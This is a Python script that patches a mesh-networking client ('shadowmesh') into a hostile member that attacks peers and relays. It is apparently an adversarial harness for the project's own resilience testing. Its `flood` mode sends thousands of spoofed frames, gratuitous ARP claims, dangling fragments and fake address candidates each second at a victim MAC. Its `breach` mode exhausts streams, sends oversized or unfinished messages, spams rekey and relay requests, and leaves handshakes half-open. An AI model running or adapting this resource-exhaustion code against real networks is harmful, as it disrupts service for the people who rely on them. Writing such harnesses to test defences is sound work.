"""A client with sessions that uses them up: what a hostile member would run, made from the product's own.

The name of the attack is in ATTACK.  `flood`: once a second, to each peer and relay, thousands of authentic
packets that fill tables, in a lane that nobody else uses.  `breach`: streams, gaps and messages against the
protocol, which end its session; it comes back at once.
"""

from __future__ import annotations

import os
import secrets
import sys
import time
from typing import Any

from shadowmesh.cli.main import main
from shadowmesh.core import peers, session
from shadowmesh.session.lane import ControlLane
from shadowmesh.units import ID_SIZE, Whole
from shadowmesh.wire.messages import CandidateAddress, Candidates, Interest, Open, RekeyAsk

LANE = 7
EACH = 700
"""Packets of each sort a second, together some thousands."""
FRAME, FRAGMENT, PROBE_REQUEST, PATH_REQUEST = b"\x01", b"\x02", b"\x04", b"\x07"
BROADCAST = b"\xff" * 6


def stations(mac: bytes) -> bytes:
    """A frame to the victim from a station that was never heard before."""
    return FRAME + mac + b"\x02" + secrets.token_bytes(5) + b"\x88\xb5" + bytes(46)


def claims() -> bytes:
    """Gratuitous ARP: an address that nobody has, at a station that nobody knows."""
    hardware, address = b"\x02" + secrets.token_bytes(5), b"\x0a\x4d" + secrets.token_bytes(2)
    arp = b"\x00\x01\x08\x00\x06\x04\x00\x02" + (hardware + address) * 2
    return FRAME + BROADCAST + hardware + b"\x08\x06" + arp + bytes(18)


def part() -> bytes:
    """The first of two fragments; the second never comes."""
    body = FRAME + bytes(900)
    return FRAGMENT + secrets.token_bytes(4) + b"\x00\x02" + body


def flood(peer: Any, now: float) -> None:
    """Frames, fragments and probes; then messages."""
    lane, victim = peer.session._sending.spare, bytes.fromhex(os.environ["VICTIM_MAC"])
    for _ in range(EACH):
        for payload in (stations(victim), claims(), part()):
            peer.routing.transmit(Whole(lane.seal(payload, now)))
        for payload in (PROBE_REQUEST + secrets.token_bytes(8), PATH_REQUEST + bytes(34)):
            peer.routing.transmit(Whole(peer.session.seal(payload, now)))
    addresses = [
        CandidateAddress(
            host=bytes(10) + b"\xff\xff\x0a\x63\x01" + secrets.token_bytes(1), port=9, kind="local"
        )
        for _ in range(16)
    ]
    for _ in range(20):
        peer.routing._sent_sequence += 1
        sequence = peer.routing._sent_sequence
        peer.send(Candidates(sequence=sequence, addresses=addresses, nat="x"), now)


def breach(peer: Any, now: float) -> None:
    """One of these in turns: each ends the session, or leaves something unfinished for ever."""
    connection = peer.session.driver.link._connection
    number = int(now) % 5
    if number == 0:  # all the streams that may be, and one more
        for stream in range(4, 4 * 10, 4):
            connection.send_stream_data(stream, b"x" * 1000)
    elif number == 1:  # a message that is never finished, of 64 KB
        connection.send_stream_data(0, b"\x40\x00\xff\xff" + bytes(1000))
    elif number == 2:  # a message of 16 MB
        connection.send_stream_data(0, b"\x40\xff\xff\xff" + bytes(1000))
    elif number == 3:  # not what its role may say
        for _ in range(100):
            peer.send(RekeyAsk(7), now)
    elif peer.channel is not None:
        relay = peer.channel.relay
        for _ in range(50):
            relay.send(Open(peer.member.node_id, secrets.token_bytes(ID_SIZE)), now)
        relay.send(Interest(add=[secrets.token_bytes(32) for _ in range(1024)]), now)
    peer._shared.links.pump(peer.session.driver, now)
    for _ in range(8):  # half-open handshakes to the callee
        peer.handshakes._initiated = None
        peer.handshakes.dial(now)


def attacked(tick: Any, attack: Any) -> Any:
    def handle_tick(self: Any, counters: dict[str, Any], now: float) -> None:
        tick(self, counters, now)
        if self.session is not None and self.is_confirmed and time.time() >= float(os.environ["ATTACK_AT"]):
            attack(self, now)

    return handle_tick


if __name__ == "__main__":
    begin = session._Sending.__init__

    def remember(self: Any, shared: Any, keys: Any, now: float) -> None:
        begin(self, shared, keys, now)
        self.spare = ControlLane(keys.send_keys, keys.send_lanes[LANE], self.expires_at, LANE)

    session._Sending.__init__ = remember  # type: ignore[method-assign]
    attack = {"flood": flood, "breach": breach}[os.environ["ATTACK"]]
    peers.PeerClient.handle_tick = attacked(peers.PeerClient.handle_tick, attack)  # type: ignore[method-assign]
    sys.exit(main())
